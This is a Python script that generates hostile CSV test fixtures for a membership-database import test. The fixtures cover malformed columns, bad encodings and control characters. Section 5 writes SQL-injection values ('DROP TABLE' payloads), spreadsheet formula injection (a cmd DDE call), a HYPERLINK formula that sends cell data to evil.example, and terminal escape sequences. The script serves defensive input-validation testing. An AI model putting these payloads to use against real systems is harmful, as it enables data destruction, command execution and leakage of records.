#!/usr/bin/env python3
"""Writes the hostile CSV files of test/sql/import_hostile.sql into this
folder (run it from anywhere; the files are committed, this script says how
each byte got there).  Huge files are not here: the test generates them."""
import os

HERE = os.path.dirname(os.path.abspath(__file__))

UNITS = 'code,parent_code,name,kind,grassroots,cell_type,valid_from,valid_to\n'
MEMBERS = 'code,full_name,gender,birth_date,admitted_on,full_member_on,left_on,left_reason\n'
MEMBERSHIPS = 'member_code,unit_code,from_date,to_date\n'
EXEMPTIONS = 'member_code,from_date,to_date,reason\n'
MEETINGS = 'unit_code,held_on,kind,topic,minutes\n'
ATTENDANCE = 'unit_code,held_on,meeting_kind,member_code,status\n'
TASKS = 'member_code,year,kind,title,outcome\n'
ASSESSMENTS = 'subject_kind,subject_code,scheme,period_start,period_end,criteria\n'
CLASSIFICATIONS = 'subject_kind,subject_code,year,grade,score\n'
BOM = '\ufeff'


def write(name, data):
    if isinstance(data, str):
        data = data.encode('utf-8')
    with open(os.path.join(HERE, name), 'wb') as f:
        f.write(data)


# 1. Wrong column counts and headers -------------------------------------
# An unquoted comma in a name: one field too many on line 3.
write('units_too_many.csv', UNITS
      + 'TH.BUOI.11,TH.BUOI,Chi bộ tổ dân phố số 11,cell,false,residential,2021-01-01,\n'
      + 'TH.BUOI.12,TH.BUOI,Chi bộ 12, tổ 3,cell,false,residential,2021-01-01,\n')
# Line 3 stops after admitted_on.
write('members_too_few.csv', MEMBERS
      + 'TH-0301,Phạm Văn Cường,male,1970-01-01,2000-01-01,2001-01-01,,\n'
      + 'TH-0302,Phạm Thị Dung,female,1972-01-01,2000-01-01\n')
# The right columns in another order (minutes and topic swapped).
write('meetings_columns_swapped.csv', 'unit_code,held_on,kind,minutes,topic\n'
      + 'TH.BUOI.01,2023-10-04,regular,90,Sinh hoạt thường kỳ tháng 10\n')
# code and name swapped: both are free text, so nothing can tell.
write('units_columns_swapped.csv', 'name,parent_code,code,kind,grassroots,cell_type,valid_from,valid_to\n'
      + 'Chi bộ tổ dân phố số 13,TH.BUOI,TH.BUOI.13,cell,false,residential,2021-01-01,\n')
# No header: the first data row is taken for the header.
write('members_no_header.csv',
      'TH-0303,Hoàng Văn Em,male,1980-01-01,2005-01-01,2006-01-01,,\n'
      'TH-0304,Hoàng Thị Gấm,female,1981-01-01,2005-01-01,2006-01-01,,\n')
# Two exports glued together (cat a.csv b.csv): the second header, with
# its byte order mark, becomes a data row.
write('members_concatenated.csv', MEMBERS
      + 'TH-0305,Vũ Văn Hùng,male,1975-01-01,2003-01-01,2004-01-01,,\n'
      + BOM + MEMBERS
      + 'TH-0306,Vũ Thị Lan,female,1976-01-01,2003-01-01,2004-01-01,,\n')

# A line holding only \. ends the data of CSV COPY: the rows after it are
# not loaded, without an error.  Inside a quoted field it is refused.
write('members_end_marker.csv', MEMBERS
      + 'TH-0307,Đinh Văn Khoa,male,1978-01-01,2004-01-01,2005-01-01,,\n'
      + '\\.\n'
      + 'TH-0308,Đinh Thị Mai,female,1979-01-01,2004-01-01,2005-01-01,,\n')
write('members_end_marker_quoted.csv', MEMBERS
      + 'TH-0309,"Dòng một\n\\.\nDòng ba",male,1978-01-01,2004-01-01,2005-01-01,,\n')

# Line ends and separators: Windows line ends (CRLF) load; mixed line ends,
# a blank last line and semicolons (Excel's "CSV" where the decimal mark is
# a comma) are refused.  Spaces around values are part of the values.
write('units_crlf.csv', (UNITS
      + 'TH.BUOI.51,TH.BUOI,Chi bộ tổ dân phố số 51,cell,false,residential,2021-01-01,\n'
      + 'TH.BUOI.52,TH.BUOI,Chi bộ tổ dân phố số 52,cell,false,residential,2021-01-01,\n').replace('\n', '\r\n'))
write('units_mixed_eol.csv', (UNITS
      + 'TH.BUOI.51,TH.BUOI,Chi bộ tổ dân phố số 51,cell,false,residential,2021-01-01,\n').replace('\n', '\r\n')
      + 'TH.BUOI.52,TH.BUOI,Chi bộ tổ dân phố số 52,cell,false,residential,2021-01-01,\n')
write('units_blank_last_line.csv', UNITS
      + 'TH.BUOI.51,TH.BUOI,Chi bộ tổ dân phố số 51,cell,false,residential,2021-01-01,\n\n')
write('units_semicolon.csv', UNITS.replace(',', ';')
      + 'TH.BUOI.51;TH.BUOI;Chi bộ tổ dân phố số 51;cell;false;residential;2021-01-01;\n')
write('units_spaces.csv', UNITS
      + 'TH.BUOI.53 ,TH.BUOI,Mã có dấu cách,cell,false,residential,2021-01-01,\n'
      + 'TH.BUOI.54,TH.BUOI, Tên có dấu cách ,cell,false,residential,2021-01-01,\n'
      + 'TH.BUOI.55,TH.BUOI,Sai grassroots,cell, false,residential,2021-01-01,\n'
      + 'TH.BUOI.56,TH.BUOI,Sai ngày,cell,false,residential,2021-01-01 ,\n')

# 2. Encodings -------------------------------------------------------------
# Latin-1: "Trân Thí Hà" has â (0xe2) and í (0xed) in Latin-1 (no "à" problem).
write('members_latin1.csv', MEMBERS.encode()
      + 'TH-0311,Trân Thí Hà,female,1980-01-01,2005-01-01,,,\n'.encode('latin-1'))
# Windows-1258 (Vietnamese Windows): "Nguyễn Văn An" is
# N g u y ê(0xea) <combining tilde 0xde> n  V ă(0xe3) n  A n.
write('members_windows1258.csv', MEMBERS.encode()
      + b'TH-0312,Nguy\xea\xden V\xe3n An,male,1980-01-01,2005-01-01,,,\n')
# Invalid UTF-8: an overlong "/" (0xc0 0xaf), a UTF-16 surrogate
# (0xed 0xa0 0x80), a sequence cut short (0xe1 0xbb then a comma).
write('units_utf8_overlong.csv', UNITS.encode()
      + b'TH.BUOI.15,TH.BUOI,Chi b\xc0\xaf 15,cell,false,residential,2021-01-01,\n')
write('units_utf8_surrogate.csv', UNITS.encode()
      + b'TH.BUOI.15,TH.BUOI,Chi b\xed\xa0\x80 15,cell,false,residential,2021-01-01,\n')
write('units_utf8_truncated.csv', UNITS.encode()
      + b'TH.BUOI.15,TH.BUOI,Chi b\xe1\xbb,cell,false,residential,2021-01-01,\n')
# A UTF-8 byte order mark at the start (Excel's "CSV UTF-8").
write('units_bom.csv', BOM + UNITS
      + 'TH.BUOI.14,TH.BUOI,Chi bộ tổ dân phố số 14,cell,false,residential,2021-01-01,\n')
# UTF-16 with its byte order mark (Excel's "Unicode Text"), and without.
write('meetings_utf16.csv',
      (MEETINGS + 'TH.BUOI.01,2023-10-05,regular,Sinh hoạt tháng 10,90\n').encode('utf-16'))
write('meetings_utf16_nobom.csv',
      (MEETINGS + 'TH.BUOI.01,2023-10-05,regular,Sinh hoạt tháng 10,90\n').encode('utf-16-le'))
# NUL bytes: inside a field, and at the end of a line's last field.
write('units_nul.csv', UNITS.encode()
      + b'TH.BUOI.16,TH.BUOI,Chi b\x00 16,cell,false,residential,2021-01-01,\n')
write('members_nul_last.csv', MEMBERS.encode()
      + 'TH-0313,Lê Văn Nul,male,1950-01-01,1975-01-01,1976-01-01,2024-01-01,other'.encode()
      + b'\x00 (moved abroad)\n')

# 4. Control characters ----------------------------------------------------
CTL = ''.join(chr(i) for i in range(1, 32)) + '\x7f\u0085\u2028'
write('members_control.csv', MEMBERS
      + 'TH-0321,"Tab\there",male,,2005-01-01,,,\n'
      + 'TH-0322,"CR\rhere",male,,2005-01-01,,,\n'
      + 'TH-0323,"LF\nhere",male,,2005-01-01,,,\n'
      + 'TH-0324,"CRLF\r\nhere",male,,2005-01-01,,,\n'
      + 'TH-0325,"Ctl' + CTL + '",male,,2005-01-01,,,\n'
      + 'TH-0326,"\x1b[31mĐỏ\x1b[0m \x1b]0;pwned\x07Tên",male,,2005-01-01,,,\n'
      + 'TH-0327,"Zero\u200bwidth\u200c\u200d\u2060\ufeff",female,,2005-01-01,,,\n'
      + 'TH-0328,"\u202enA nǎV nễyugN\u202c \u2066x\u2069",male,,2005-01-01,,,\n'
      + 'TH-0329,Giới tính ẩn,"male\u200b",,2005-01-01,,,\n'
      + 'TH-0330,Giới tính tab,"male\t",,2005-01-01,,,\n')
write('meetings_control.csv', MEETINGS
      + 'TH.BUOI.01,2023-10-11,regular,"Dòng 1\r\nDòng 2\n\tThụt lề\x1b[2J\x07",60\n'
      + 'TH.BUOI.01,2023-10-12,"regular\u200b",Kind with a zero-width space,60\n')
write('task_registrations_control.csv', TASKS
      + 'TH-0002,2023,new,"Nhiệm vụ\x01\x02\x1f\u202e cuối",\n'
      + 'TH-0002,2023,difficult,"\x1b[1mIn đậm\x1b[0m",\n')
write('attendance_control.csv', ATTENDANCE
      + 'TH.BUOI.01,2023-07-05,regular,TH-0002\u200b,present\n'
      + 'TH.BUOI.01,2023-07-05,regular,TH-0005,"present\r"\n')
# A carriage return outside quotes.
write('units_bare_cr.csv', UNITS.encode()
      + b'TH.BUOI.17,TH.BUOI,Chi b\xe1\xbb\x99\r 17,cell,false,residential,2021-01-01,\n')

# 5. Formula-looking and SQL-looking text ----------------------------------
CMD = "=cmd|' /C calc'!A0"
SQLU = "TH'); DROP TABLE chibo.members; --"
DOL = '$$%I%L%s%%'
HYPER = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def row(*fields):
    """One CSV line; a field is quoted when it must be."""
    def one(s):
        if any(c in s for c in ',"\r\n'):
            return '"' + s.replace('"', '""') + '"'
        return s
    return ','.join(one(f) for f in fields) + '\n'


ROBERT_U = "Robert'); DROP TABLE chibo.units; --"
ROBERT_M = "Robert'); DROP TABLE chibo.members; --"
write('text_units.csv', UNITS
      + row(CMD, 'TH.BUOI', CMD, 'cell', 'false', 'other', '2021-01-01', '')
      + row(SQLU, 'TH.BUOI', ROBERT_U, 'cell', 'false', 'other', '2021-01-01', '')
      + row(DOL, 'TH.BUOI', '$$; DROP TABLE chibo.attendance; $$', 'cell', 'false', 'other', '2021-01-01', '')
      + row('TH.BUOI.21', 'TH.BUOI', "+SUM(1+1)*cmd|' /C calc'!A0", 'cell', 'false', 'other', '2021-01-01', '')
      + row('TH.BUOI.22', 'TH.BUOI', '-1+1', 'cell', 'false', 'other', '2021-01-01', '')
      + row('TH.BUOI.23', 'TH.BUOI', '@SUM(A1:A9)', 'cell', 'false', 'other', '2021-01-01', '')
      + row('TH.BUOI.24', 'TH.BUOI', HYPER, 'cell', 'false', 'other', '2021-01-01', '')
      + row('TH.BUOI.26', "x%s'; DROP TABLE chibo.units; --", 'Bad parent', 'cell', 'false', 'other', '2021-01-01', '')
      + row('TH.BUOI.27', 'TH.BUOI', 'Bad kind', "cell'; DROP TABLE chibo.units; --", 'false', 'other', '2021-01-01', '')
      + row('TH.BUOI.28', 'TH.BUOI', 'Bad cell type', 'cell', 'false', CMD, '2021-01-01', '')
      + row('TH.BUOI.29', 'TH.BUOI', 'Bad date', 'cell', 'false', 'other', "2021-01-01'; DROP TABLE chibo.units; --", '')
      + row('TH.BUOI.30', 'TH.BUOI', 'Bad grassroots', 'cell', "false'); DROP TABLE chibo.units; --", 'other', '2021-01-01', '')
      + row('TH.BUOI.35', 'TH.BUOI', 'Bad end', 'cell', 'false', 'other', '2021-01-01', '2030-01-01 %s $$'))
write('text_members.csv', MEMBERS
      + row(SQLU, ROBERT_M, 'male', '', '2005-01-01', '', '', '')
      + row(CMD, HYPER, 'female', '', '2005-01-01', '', '', '')
      + row(DOL, '%s %L %I $1 :x', '', '', '2005-01-01', '', '', '')
      + row('TH-0341', '@SUM(1+1)', '=1+1', '', '2005-01-01', '', '', '')
      + row('TH-0342', '-1+1', '', '', '2005-01-01', '', '2020-01-01', "died'); DROP TABLE chibo.members; --")
      + row('TH-0343', 'Bad birth date', 'male', "1970-01-01'); DROP TABLE chibo.members; --", '2005-01-01', '', '', '')
      + row('TH-0344', 'Bad dates', 'male', '', '2005-01-01', '=TODAY()', '%L', ''))
write('text_memberships.csv', MEMBERSHIPS
      + row(SQLU, CMD, '2021-01-01', '')
      + row(CMD, DOL, '2021-01-01', '')
      + row(DOL, '%s', '2021-01-01', '')
      + row(SQLU, 'TH.BUOI.01', "2022-01-01'); DROP TABLE chibo.memberships; --", '')
      + row(SQLU, 'TH.BUOI.01', '2019-01-01', '=1+1'))
write('text_exemptions.csv', EXEMPTIONS
      + row(SQLU, '2023-01-01', '2023-02-01', 'health')
      + row(SQLU, '2023-03-01', '', CMD)
      + row(SQLU, "2023-04-01'); DROP TABLE chibo.exemptions; --", '', 'age'))
write('text_meetings.csv', MEETINGS
      + row(CMD, '2023-07-05', 'regular', HYPER, '60')
      + row(CMD, '2023-08-05', 'regular', '$$; DROP TABLE chibo.meetings; $$ %s %I', '')
      + row(CMD, '2023-09-05', "regular'); DROP TABLE chibo.meetings; --", 'x', '')
      + row(CMD, '2023-09-06', 'regular', 'x', '=1+1')
      + row(CMD, "2023-09-07'); DROP TABLE chibo.meetings; --", 'regular', 'x', ''))
write('text_attendance.csv', ATTENDANCE
      + row(CMD, '2023-07-05', 'regular', SQLU, 'present')
      + row(CMD, '2023-07-05', 'regular', CMD, "present'; DROP TABLE chibo.attendance; --")
      + row(CMD, '2023-07-05', "regular'); DROP TABLE chibo.attendance; --", SQLU, 'absent')
      + row(CMD, "2023-07-05'); DROP TABLE chibo.attendance; --", 'regular', SQLU, 'absent'))
write('text_task_registrations.csv', TASKS
      + row(SQLU, '2023', 'new', CMD, '')
      + row(SQLU, '2023', 'difficult', "'); DROP TABLE chibo.task_registrations; --", 'completed')
      + row(SQLU, '2023', '%I', 'x', '')
      + row(SQLU, '2024', 'new', 'y', '=1+1')
      + row(SQLU, "2024'); DROP TABLE chibo.task_registrations; --", 'new', 'z', ''))
write('text_assessments.csv', ASSESSMENTS
      + row('member', SQLU, 'DV4T', '2023-01-01', '2023-12-31', '1101')
      + row('member', SQLU, "DV4T'); DROP TABLE chibo.schemes; --", '2022-01-01', '2022-12-31', '1111')
      + row('=1+1', SQLU, 'DV4T', '2021-01-01', '2021-12-31', '1111')
      + row('member', SQLU, 'DV4T', '2020-01-01', '2020-12-31', "1111'; --")
      + row('member', SQLU, 'DV4T', "2019-01-01'); DROP TABLE chibo.assessments; --", '2019-12-31', '1111')
      + row('member', SQLU, 'DV4T', '2018-01-01', '=DATE(2018,12,31)', '1111'))
write('text_classifications.csv', CLASSIFICATIONS
      + row('member', SQLU, '2023', 'good', '80')
      + row('member', SQLU, '2022', CMD, '')
      + row('member', SQLU, '2021', 'good', '=1+1')
      + row('member', SQLU, '2020', 'good', '-1+1')
      + row("member'); DROP TABLE chibo.classifications; --", SQLU, '2019', 'good', '')
      + row('member', SQLU, "2018'); DROP TABLE chibo.classifications; --", 'good', ''))
